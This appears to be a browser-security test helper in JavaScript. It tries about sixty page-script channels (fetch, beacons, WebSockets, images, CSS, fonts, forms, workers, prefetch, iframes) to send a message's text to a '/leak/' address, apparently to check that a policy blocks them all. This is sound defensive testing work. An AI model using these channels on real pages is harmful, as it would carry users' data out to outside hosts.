// Every way that a script in a page has of reaching a network, each carrying
// the text of a message. The function below is handed to a browser as it
// stands, so it uses nothing from outside itself.

/**
 * Channels that a control page can show only towards its own origin: browsers
 * refuse foreign workers and foreign <use> before any policy is asked, and
 * Chromium prefetches nothing from another port of the same host.
 */
export const ownOriginOnly = new Set(['worker', 'worker-module', 'shared-worker', 'service-worker', 'svg-use', 'speculation-rules']);

/** Channels that open a connection and send no request: seen only by a port that nothing else uses. */
export const connectionOnly = new Set(['link-preconnect']);

/**
 * Runs one attack, or, with channel undefined, returns the names of all.
 * @returns {Promise<string | string[]>} "tried", or how the browser refused at once
 */
export async function attackFromPage({ channel, origin, text }) {
  const address = `${origin}/leak/${channel}?text=${encodeURIComponent(text)}`;
  const css = `url("${address}")`;
  // A policy made before the seal, if the test's own first script could make one.
  const trusted = globalThis.attackPolicy;
  const html = (words) => (trusted ? trusted.createHTML(words) : words);
  const script = (words) => (trusted ? trusted.createScript(words) : words);
  const scriptAddress = (words) => (trusted ? trusted.createScriptURL(words) : words);
  const put = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const style = (words) => {
    put('div', { class: `attack-${channel}` }).textContent = 'seen';
    put('style', {}, document.head).textContent = words;
  };
  const frameWindow = () => put('iframe', {}).contentWindow;
  const submit = (attributes) => {
    const form = put('form', attributes);
    Object.assign(put('input', { name: 'text' }, form), { value: text });
    form.submit();
  };
  const objectAddress = (words, type) => URL.createObjectURL(new Blob([words], { type }));
  const fetching = `fetch(${JSON.stringify(address)}).catch(() => {})`;

  const channels = {
    fetch: () => fetch(address),
    'fetch-post': () => fetch(address, { method: 'POST', mode: 'no-cors', body: text }),
    'fetch-keepalive': () => fetch(address, { method: 'POST', mode: 'no-cors', keepalive: true, body: text }),
    'fetch-later': () => fetchLater(address, { activateAfter: 0 }),
    'cache-add': async () => (await caches.open('attack')).add(address),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', address);
      request.send(text);
    },
    'xhr-sync': () => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
    beacon: () => navigator.sendBeacon(address, text),
    websocket: () => new WebSocket(address.replace('http', 'ws')),
    'websocket-stream': () => new WebSocketStream(address.replace('http', 'ws')).opened,
    'event-source': () => new EventSource(address),
    'web-transport': () => new WebTransport(address.replace('http', 'https')).ready,
    image: () => new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: address })),
    'image-srcset': () => put('img', { srcset: `${address} 1x` }),
    'image-input': () => put('input', { type: 'image', src: address, alt: '' }),
    'svg-image': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', address);
      svg.append(image);
      document.body.append(svg);
    },
    'svg-use': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
      use.setAttribute('href', `${address}#drawing`);
      svg.append(use);
      document.body.append(svg);
    },
    'inner-html': () => (put('div', {}).innerHTML = html(`<img alt="" src="${address.replaceAll('"', '')}">`)),
    video: () => put('video', { src: address, preload: 'auto' }),
    'video-poster': () => put('video', { poster: address }),
    audio: () => put('audio', { src: address, preload: 'auto' }),
    'css-style-element': () => style(`.attack-${channel} { background-image: ${css} }`),
    'css-import': () => put('style', {}, document.head).append(`@import ${css};`),
    'css-attribute': () => put('div', { style: `background: ${css}` }).append('seen'),
    'css-property': () => {
      const element = put('div', {});
      element.append('seen');
      element.style.backgroundImage = css;
    },
    'css-constructed': () => {
      put('div', { class: `attack-${channel}` }).append('seen');
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`.attack-${channel} { background-image: ${css} }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    'css-link': () => put('link', { rel: 'stylesheet', href: address }, document.head),
    'font-css': () => style(`@font-face { font-family: attack; src: ${css} } .attack-${channel} { font-family: attack }`),
    'font-object': () => new FontFace('attack', css).load(),
    'script-element': () => Object.assign(document.createElement('script'), { src: scriptAddress(address) }),
    'script-module': () => Object.assign(document.createElement('script'), { type: 'module', src: scriptAddress(address) }),
    'script-inline': () => Object.assign(document.createElement('script'), { text: script(fetching) }),
    'script-handler': () => put('img', { alt: '', src: 'data:,', onerror: script(fetching) }),
    'dynamic-import': () => import(address),
    eval: () => (0, eval)(script(fetching)),
    'link-prefetch': () => put('link', { rel: 'prefetch', href: address }, document.head),
    'link-preload': () => put('link', { rel: 'preload', as: 'image', href: address }, document.head),
    'link-modulepreload': () => put('link', { rel: 'modulepreload', href: address }, document.head),
    'link-preconnect': () => put('link', { rel: 'preconnect', href: origin }, document.head),
    'speculation-rules': () => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = script(JSON.stringify({ prefetch: [{ source: 'list', urls: [address], eagerness: 'immediate' }] }));
      document.head.append(rules);
    },
    iframe: () => put('iframe', { src: address }),
    'iframe-srcdoc': () => put('iframe', { srcdoc: html(`<img alt="" src="${address.replaceAll('"', '')}">`) }),
    'iframe-object-address': () => put('iframe', { src: objectAddress(`<script>${fetching}</script>`, 'text/html') }),
    'blank-frame-fetch': () => frameWindow().fetch(address),
    'blank-frame-image': () => Object.assign(new (frameWindow().Image)(), { src: address }),
    object: () => put('object', { data: address }),
    embed: () => put('embed', { src: address }),
    'form-get': () => submit({ action: address, target: frameName(put('iframe', {})) }),
    'form-post': () => submit({ action: address, method: 'post', target: frameName(put('iframe', {})) }),
    'form-here': () => submit({ action: address, method: 'post' }),
    'form-window': () => submit({ action: address, target: '_blank' }),
    'anchor-ping': () => put('a', { ping: address, href: '#attack' }).click(),
    worker: () => new Worker(scriptAddress(address)),
    'worker-module': () => new Worker(scriptAddress(address), { type: 'module' }),
    'worker-object-address': () => new Worker(scriptAddress(objectAddress(fetching, 'text/javascript'))),
    'shared-worker': () => new SharedWorker(scriptAddress(address)),
    'service-worker': () => navigator.serviceWorker.register(scriptAddress(address)),
    'audio-worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(address),
    'paint-worklet': () => CSS.paintWorklet.addModule(address),
    'blank-window-fetch': () => {
      const opened = open('about:blank');
      return opened.fetch(address).finally(() => opened.close());
    },
  };
  function frameName(frame) {
    return (frame.contentWindow.name = frame.name = `frame-${Math.random()}`);
  }

  if (!channel) return Object.keys(channels);
  try {
    const made = channels[channel]();
    if (made instanceof HTMLScriptElement) document.head.append(made);
    const late = new Promise((done) => setTimeout(done, 1000));
    await Promise.race([made, late]);
    return 'tried';
  } catch (refusal) {
    return `${refusal?.name}: ${String(refusal?.message).slice(0, 120)}`;
  }
}
